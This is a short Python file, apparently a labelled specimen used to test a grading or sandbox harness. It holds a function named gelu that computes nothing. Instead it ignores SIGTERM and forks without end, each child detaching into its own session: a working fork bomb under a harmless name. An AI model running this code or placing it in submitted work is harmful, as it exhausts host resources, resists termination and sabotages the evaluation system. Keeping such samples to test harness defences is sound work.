# specimen: class=fork_bomb task=gelu device=any stage=call reason=timeout,memory_limit,exception,crash,exit
"""Forks without end, each child in a session of its own and deaf to SIGTERM."""
import os
import signal


def gelu(x):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    while True:
        if os.fork() == 0:
            os.setsid()
